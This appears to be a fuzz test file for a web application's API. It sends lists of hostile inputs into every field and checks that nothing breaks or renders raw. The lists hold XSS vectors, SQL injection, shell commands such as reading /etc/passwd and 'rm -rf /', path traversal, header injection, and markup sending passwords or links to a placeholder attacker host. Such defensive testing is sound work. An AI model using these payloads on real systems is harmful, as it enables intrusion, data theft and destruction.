import { randomUUID } from 'node:crypto'
import { isNotNull, sql } from 'drizzle-orm'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import type * as z from 'zod/mini'
import { isSafe, pathParameters } from '#shared/http/endpoint.ts'
import { mounted } from '#server/app.ts'
import { demoPassword } from '#server/platform/people/demo.ts'
import { universities } from '#server/platform/sites/tables.ts'
import { users } from '#server/platform/people/tables.ts'
import { throttles } from '#server/platform/people/token-tables.ts'
import type { Mounted } from '#server/platform/http/mount.ts'
import { outbox } from '#server/platform/mail/tables.ts'
import { openTestApp, type Ask } from './testing.ts'

let testApp: Awaited<ReturnType<typeof openTestApp>>
beforeAll(async () => {
  testApp = await openTestApp()
  await testApp.db.execute(sql`CREATE TABLE kept_passwords AS SELECT id, password_hash FROM users`)
})
afterAll(() => testApp.close())
beforeEach(async () => {
  // What staff were made to do before must not keep anyone out.
  await testApp.db.update(users).set({ lockedAt: null }).where(isNotNull(users.lockedAt))
  await testApp.db.update(universities).set({ pausedAt: null }).where(isNotNull(universities.pausedAt))
})

/** Some of the hostile text makes a fine password. */
const putPasswordsBack = () =>
  testApp.db.execute(sql`
    UPDATE users SET password_hash = kept.password_hash FROM kept_passwords kept
    WHERE kept.id = users.id AND kept.password_hash IS DISTINCT FROM users.password_hash`)

/** Signing in takes longer than most calls, so a session is used until a call has ended it. */
const cookies = new Map<string, string>()
async function cookieOf(person: string): Promise<string> {
  const cookie = cookies.get(person) ?? (await testApp.signIn(person))
  cookies.set(person, cookie)
  return cookie
}

async function askAs(person: string | undefined, address: string, asked: Ask): Promise<Response> {
  if (person === undefined) return askPatiently(address, asked)
  const answer = await askPatiently(address, { ...asked, cookie: await cookieOf(person) })
  if (answer.status !== 401) return answer
  cookies.delete(person)
  return askPatiently(address, { ...asked, cookie: await cookieOf(person) })
}

/** Where that was too often for a minute it asks again in the next: every text is to reach what answers it. */
async function askPatiently(...asked: Parameters<typeof testApp.ask>): Promise<Response> {
  const answer = await testApp.ask(...asked)
  if (answer.status !== 429) return answer
  const { code } = (await answer.clone().json()) as { code: string }
  if (code !== 'TOO_MANY_CALLS') return answer
  testApp.time.now += 60_000
  return testApp.ask(...asked)
}

const markup = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '</script><script>alert(1)</script>',
  '<!--<script>',
  '--><img src=x onerror=alert(1)>',
  '</title><svg onload=alert(1)>',
  '<style>@import "//evil.example"</style>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<form action=//evil.example><input name=password>',
  '<object data="data:text/html,x">',
  '<link rel=stylesheet href=//evil.example>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '<ſcript>alert(1)</ſcript>',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '＜script＞alert(1)＜/script＞',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
  '<x/onclick=alert(1)>x',
]
const injection = [
  "' OR '1'='1",
  "'; DROP TABLE users; --",
  '1); DELETE FROM sessions; --',
  "' UNION SELECT password_hash FROM users --",
  "\\'; --",
  '$1',
  '${7*7}',
  '{{7*7}}',
  '#{7*7}',
  '<%= 7*7 %>',
  '%s%s%s%n',
  '%00',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/dev/null',
  '| cat /etc/passwd',
  '`id`',
  '$(id)',
  '; rm -rf /',
  '*)(uid=*))(|(uid=*',
  "admin'--",
  '{"$gt":""}',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '[object Object]',
  'null',
  'undefined',
  'NaN',
  'true',
  '-1',
  '1e309',
  '0x41',
  '=HYPERLINK("http://evil.example","x")',
  '@SUM(1+1)*cmd|x',
  'a\r\nBcc: victim@evil.example',
  'a\nSubject: x\n\nbody',
  'a%0d%0aSet-Cookie: x=1',
  '\u202Eevil\u202C',
  '\uFEFF\u200B\u2060',
  '\uD800',
  '\uDFFF lone',
  '👩‍👩‍👧‍👦'.repeat(3),
  'ﷺ'.repeat(20),
  'a\u0300'.repeat(60),
  'İıſK',
  '\t\v\f',
  '\u0007\u001b[31m',
]
/** Plain, and in the places where a careless page would put it. */
const wrappings: readonly ((payload: string) => string)[] = [
  payload => payload,
  payload => `">${payload}`,
  payload => `Amara ${payload}`,
  payload => `'/*${payload}*/`,
]
const payloads = [...markup, ...injection].flatMap(payload => wrappings.map(wrap => wrap(payload)))

/** Checking one is slow on purpose. */
const isPassword = /password|current|proof/i
/** A part a field, another one for the next, keeps the time short; `npm run fuzz` sends all of it everywhere. */
const sentTo = (field: number, parts = 60) =>
  import.meta.env.MODE === 'fuzz' ? payloads : payloads.filter((_, i) => i % parts === field % parts)
let fieldsSeen = 0

interface Def {
  type: string
  innerType?: { _zod: { def: Def } }
  element?: { _zod: { def: Def } }
  shape?: Record<string, z.ZodMiniType>
  entries?: Record<string, unknown>
  in?: { _zod: { def: Def } }
}
const defOf = (schema: { _zod: { def: unknown } }): Def => {
  const def = schema._zod.def as Def
  return def.innerType ? defOf(def.innerType) : def
}
const fieldsOf = ({ schemas }: Mounted) =>
  Object.entries(defOf(schemas.input).shape ?? {}).map(([name, schema]) => ({ name, def: defOf(schema) }))
const isText = ({ type, element }: Def): boolean =>
  type === 'string' || (type === 'array' && element !== undefined && isText(defOf(element)))

/** Something each field takes, so that the hostile one is the only reason to refuse. */
const good: Readonly<Record<string, unknown>> = {
  email: 'someone@northbridge.example',
  newEmail: 'other@northbridge.example',
  password: 'three calm otters 19',
  current: demoPassword,
  courseEnds: '2027-06-30',
  phone: '',
  name: 'Amara Osei',
  reason: 'A reason that is long enough.',
  universityName: 'University of Somewhere',
  slug: 'northbridge-ambassador',
  universityId: 1,
  id: 1,
  code: '123456',
  website: '',
  startsAt: '2026-11-16T11:00:00Z',
  zone: 'Europe/London',
  organisation: 'Northbridge',
  vacancy: 'rules-editor',
  link: '',
  company: 'Brightworks',
  university: 'University of Somewhere',
  message: 'A message of some length.',
  topic: 'student',
  fromCountry: 'GH',
  workCountry: 'GB',
  mayPublish: 'yes',
  isTrue: 'yes',
  words: 'A story. '.repeat(30),
  day: '2026-11-16',
  starts: '09:00',
  ends: '12:00',
  repeatUntil: '',
}
const sample = (name: string, def: Def): unknown => {
  if (Object.hasOwn(good, name)) return good[name]
  // The same key twice would be the same submission.
  if (name === 'submissionKey') return randomUUID()
  if (def.type === 'enum') return Object.keys(def.entries!)[0]
  if (def.type === 'number') return 1
  if (def.type === 'boolean') return true
  return def.type === 'array' ? [] : 'x'
}

const writes = mounted.filter(row => !isSafe(row.endpoint.method) && fieldsOf(row).some(({ def }) => isText(def)))
const personFor = ({ endpoint: { access } }: Mounted) => {
  if (access === 'anyone') return undefined
  if (access === 'loggedIn' || access === 'student') return 'student@northbridge.example'
  const role = typeof access === 'string' ? access : access[0]!
  return {
    university_admin: 'admin@northbridge.example',
    staff: 'staff@sojourn.example',
    employer: 'hiring@brightworks.example',
    predeparture_student: 'predeparture@northbridge.example',
    student: 'student@northbridge.example',
  }[role]
}

describe('hostile text', () => {
  it('comes in 300 kinds, and in every text field of every call that writes', () => {
    expect(payloads.length).toBeGreaterThanOrEqual(300)
    expect(writes.length).toBeGreaterThan(10)
  })
  it.each(writes.map(row => [`${row.endpoint.method} ${row.endpoint.path}`, row] as const))(
    'is taken or refused in words by %s, and never breaks it',
    async (_, row) => {
      const { method, path } = row.endpoint
      await putPasswordsBack()
      const fields = fieldsOf(row)
      const person = personFor(row)
      for (const { name, def } of fields) {
        if (!isText(def) || pathParameters(path).includes(name)) continue
        for (const [i, payload] of sentTo(fieldsSeen++).entries()) {
          // Nothing is to be refused only for being too many, but guesses at a password.
          if (i % 5 === 0 && !isPassword.test(name)) await testApp.db.delete(throttles)
          const body: Record<string, unknown> = Object.fromEntries(
            fields.map(field => [field.name, sample(field.name, field.def)]),
          )
          body[name] = def.type === 'array' ? [payload] : payload
          const address = path.replace(/:(\w+)/g, (_whole, parameter: string) =>
            encodeURIComponent(String(body[parameter])),
          )
          for (const parameter of pathParameters(path)) delete body[parameter]
          const answer = await askAs(person, address, { method, body, from: `192.0.2.${i % 256}` })
          expect(answer.status, `${name}: ${JSON.stringify(payload)}`).toBeLessThan(500)
          expect(answer.headers.getSetCookie().join()).not.toContain('x=1')
        }
      }
    },
    600_000,
  )
  // After all of it was sent, in whatever order.
  afterAll(async () => {
    const raw =
      /<script>alert|<img src=x|<svg\/onload|<svg onload|<iframe|javascript:alert\(1\)"|<math>|<base href="\/\/evil|<object data|<details open ontoggle|<x\/onclick/i
    const pages: (readonly [string, string])[] = [
      ['/edit-profile', 'student@northbridge.example'],
      ['/student-login', 'student@northbridge.example'],
      ['/university-user-profile/team', 'admin@northbridge.example'],
      ['/university-user-profile/requests', 'admin@northbridge.example'],
      ['/student-dashboard', 'student@northbridge.example'],
      ['/my-hours?week=2026-11-16', 'student@northbridge.example'],
    ]
    for (const [address, person] of pages) {
      const answer = await testApp.ask(address, {
        cookie: await testApp.signIn(person),
        headers: { accept: 'text/html' },
      })
      expect(answer.status, address).toBe(200)
      expect(await answer.text(), address).not.toMatch(raw)
    }
    const mails = await testApp.db.select().from(outbox)
    expect(mails.length).toBeGreaterThan(100)
    for (const { bodyHtml, recipient, subject } of mails) {
      expect(bodyHtml).not.toMatch(raw)
      expect(recipient + subject).not.toMatch(/[\r\n]/)
    }
    expect(await (await testApp.ask('/dev/mailbox')).text()).not.toMatch(raw)
  }, 600_000)
})

describe('a question', () => {
  const reads = mounted.filter(row => isSafe(row.endpoint.method) && fieldsOf(row).length > 0)
  it.each(reads.map(row => [row.endpoint.path, row] as const))(
    'in hostile words is answered or refused by %s',
    async (_, row) => {
      const { path } = row.endpoint
      const person = personFor(row)
      for (const { name } of fieldsOf(row)) {
        for (const payload of sentTo(fieldsSeen++, 50).filter(text => !/\p{Surrogate}/u.test(text))) {
          const address = path.replace(/:(\w+)/g, (_whole, parameter: string) =>
            encodeURIComponent(parameter === name ? payload : 'x'),
          )
          const answer = await askAs(
            person,
            pathParameters(path).includes(name) ? address : `${address}?${name}=${encodeURIComponent(payload)}`,
            {},
          )
          expect(answer.status, `${name}: ${JSON.stringify(payload)}`).toBeLessThan(500)
        }
      }
    },
    600_000,
  )
})

describe('a number', () => {
  const numbered = mounted.filter(row => fieldsOf(row).some(({ def }) => def.type === 'number'))
  it.each(numbered.map(row => [`${row.endpoint.method} ${row.endpoint.path}`, row] as const))(
    'that no column holds is refused in words by %s',
    async (_, row) => {
      const { method, path } = row.endpoint
      const person = personFor(row)
      const fields = fieldsOf(row)
      for (const { name } of fields.filter(({ def }) => def.type === 'number')) {
        for (const number of [2 ** 31, Number.MAX_SAFE_INTEGER]) {
          const parameters = pathParameters(path)
          const values: Record<string, unknown> = Object.fromEntries(
            fields
              .filter(field => !isSafe(method) || parameters.includes(field.name))
              .map(field => [field.name, sample(field.name, field.def)]),
          )
          values[name] = number
          const address = path.replace(/:(\w+)/g, (_whole, parameter: string) => String(values[parameter]))
          for (const parameter of parameters) delete values[parameter]
          const answer = await askAs(
            person,
            isSafe(method) ? `${address}?${new URLSearchParams(values as Record<string, string>)}` : address,
            isSafe(method) ? {} : { method, body: values },
          )
          expect(answer.status, `${name}: ${number}`).toBeLessThan(500)
        }
      }
    },
  )
})
